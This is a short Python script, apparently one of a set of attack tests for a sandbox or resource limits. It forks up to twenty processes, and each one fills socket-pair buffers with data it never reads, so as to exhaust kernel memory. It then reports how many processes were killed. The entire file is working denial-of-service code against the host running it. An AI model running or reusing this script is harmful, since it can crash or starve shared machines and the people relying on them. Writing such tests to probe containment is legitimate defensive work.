# Takes kernel memory: socket buffers filled and never read, in many processes.
import os
import socket
from attack import finish, held

children = []
for _ in range(20):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        pairs = []
        try:
            while True:
                a, b = socket.socketpair()
                pairs.append((a, b))
                for end in (a, b):
                    end.setblocking(False)
                    try:
                        while True:
                            end.send(b"x" * 65536)
                    except BlockingIOError:
                        pass
        except OSError:
            os._exit(0)
    children.append(pid)
ends = [os.waitpid(pid, 0)[1] for pid in children]
held(f"{len(ends)} processes, {sum(end != 0 for end in ends)} killed")
finish()
